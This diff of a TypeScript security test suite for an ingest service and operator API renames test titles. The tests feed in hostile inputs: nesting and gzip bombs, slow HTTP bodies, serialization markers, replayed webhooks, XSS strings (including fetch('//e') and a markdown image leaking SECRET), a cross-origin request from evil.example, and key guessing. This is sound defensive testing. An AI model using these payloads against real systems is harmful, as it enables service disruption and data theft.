@@ -54,7 +54,7 @@ async function stillServes(): Promise<void> {
   expect(await on().decisions(`honest-${id}`)).toHaveLength(1);
 }
 
-describe("what is sent to the ingest", () => {
+describe("hostile input to the ingest", () => {
   test.each([
     ["W1 20,000 brackets", `${"[".repeat(20_000)}${"]".repeat(20_000)}`, 400],
     ["W1 20,000 brackets inside of an event", eventOf(`{"a":${"[".repeat(15_000)}${"]".repeat(15_000)}}`), 400],
@@ -93,7 +93,7 @@ describe("what is sent to the ingest", () => {
     await stillServes();
   });
 
-  test("W2 a gigabyte in a megabyte is not unpacked", async () => {
+  test("W2 a gigabyte compressed into a megabyte is not decompressed", async () => {
     const before = process.memoryUsage().rss;
     const bomb = gzipSync(Buffer.alloc(256 * 1024 * 1024), { level: 1 }).subarray(0, 499 * 1024);
     const small = gzipSync(Buffer.alloc(32 * 1024 * 1024));
@@ -106,7 +106,7 @@ describe("what is sent to the ingest", () => {
     await stillServes();
   });
 
-  test("W2 a length that promises more than comes, and a body that comes byte by byte, are not waited for", async () => {
+  test("W2 a content length larger than the body, and a body sent byte by byte, are not awaited", async () => {
     const head = `POST /v1/signals HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${WRITE_KEY}\r\n`;
     expect(await raw(`${head}content-length: 1000\r\n\r\n{`)).toMatch(/^HTTP\/1\.1 408 /);
     expect(await raw(`${head}transfer-encoding: chunked\r\n\r\n1\r\n{\r\n`, "1\r\n \r\n")).toMatch(/^HTTP\/1\.1 408 /);
@@ -114,7 +114,7 @@ describe("what is sent to the ingest", () => {
     await stillServes();
   });
 
-  test("W2 a body without end is not read to its end", async () => {
+  test("W2 an endless body is not read to its end", async () => {
     const head = `POST /v1/signals HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${WRITE_KEY}\r\ntransfer-encoding: chunked\r\n\r\n`;
     const chunk = `10000\r\n${"x".repeat(65_536)}\r\n`;
     expect(await raw(head + chunk.repeat(9), chunk)).toMatch(/^HTTP\/1\.1 413 /);
@@ -134,7 +134,7 @@ describe("what is sent to the ingest", () => {
     ],
     ["a secret", { lc: 1, type: "secret", id: ["OPENAI_API_KEY"] }],
     ["a later version", { lc: 2, type: "constructor", id: ["langchain_core", "prompts", "PromptTemplate"], kwargs: {} }],
-  ])("W7 a library's mark of %s stays plain data from end to end", async (_, marker) => {
+  ])("W7 a library's mark of %s stays plain data throughout", async (_, marker) => {
     const id = randomUUID();
     expect((await send(eventOf(JSON.stringify({ marker, traits: { marker } }), `lc-${id}`, id))).status).toBe(202);
     await on().settled();
@@ -151,7 +151,7 @@ describe("what is sent to the ingest", () => {
     ["another way to write a mark", "zo\u00eb@x.example", "zoe\u0308@x.example"],
     ["a number with zeros", "+41790000000", "0041790000000"],
     ["a space", "ann@x.example", "ann@x.example "],
-  ])("W8 values are compared as they are: %s never finds somebody else's record", async (_, first, second) => {
+  ])("W8 values are compared exactly: %s never finds another customer's record", async (_, first, second) => {
     const prefix = randomUUID();
     const found = [];
     for (const value of [first, second, first]) {
@@ -191,7 +191,7 @@ describe("what is sent to the ingest", () => {
   });
 });
 
-describe("W4 a webhook that comes again", () => {
+describe("W4 a replayed webhook", () => {
   const call = (body: string, id: string, at: Date) =>
     fetch(urlOf("/v1/webhooks/hook"), {
       method: "POST",
@@ -206,7 +206,7 @@ describe("W4 a webhook that comes again", () => {
     data: { text: "Hello", identities: [{ type: "email", value: "ann@x.example" }] },
   });
 
-  test("at once, after four minutes, and again by its sender, tells nothing new; after ten minutes it is stale", async () => {
+  test("at once, after four minutes, and sent again by its sender, adds nothing new; after ten minutes it is stale", async () => {
     const id = `msg_${randomUUID()}`;
     const minutesAgo = (minutes: number) => new Date(Date.now() - minutes * 60_000);
     const statuses = [];
@@ -217,7 +217,7 @@ describe("W4 a webhook that comes again", () => {
   });
 });
 
-describe("what is asked of the operator API", () => {
+describe("hostile requests to the operator API", () => {
   test("C1 no operator route answers without a key, with a wrong one, or with one for writing", async () => {
     interface Described {
       readonly paths: Readonly<
@@ -250,7 +250,7 @@ describe("what is asked of the operator API", () => {
   });
 
   test.each(["<img src=x onerror=fetch('//e')>", '"><svg/onload=alert(1)>', "javascript:alert(1)", "![](https://e/?q=SECRET)"])(
-    "C2 a name like %s is told as data that no browser takes for a page",
+    "C2 a name like %s is returned as data that no browser renders as a page",
     async (name) => {
       const id = `xss-${randomUUID()}`;
       expect((await send(eventOf(JSON.stringify({ traits: { firstName: name } }), id))).status).toBe(202);
@@ -263,7 +263,7 @@ describe("what is asked of the operator API", () => {
     },
   );
 
-  test("C3 pages of others may neither read answers nor act: there is no cookie, and no origin is allowed", async () => {
+  test("C3 pages of other origins may neither read responses nor act: there is no cookie, and no origin is allowed", async () => {
     const cross = { origin: "https://evil.example", host: "evil.test", "content-type": "text/plain", cookie: `key=${OPERATOR_KEY}` };
     const posted = await on().app.request("http://evil.test/v1/pause", {
       method: "POST",
@@ -308,7 +308,7 @@ describe("what is asked of the operator API", () => {
     },
   );
 
-  test("C7 a thousand wrong keys are slowed down; a right one is not", async () => {
+  test("C7 a thousand wrong keys are throttled; a right one is not", async () => {
     const statuses = new Map<number, number>();
     for (let n = 0; n < 1_000; n++) {
       const { status } = await on().app.request("/v1/experiences", { headers: { authorization: `Bearer guess-${n}` } });
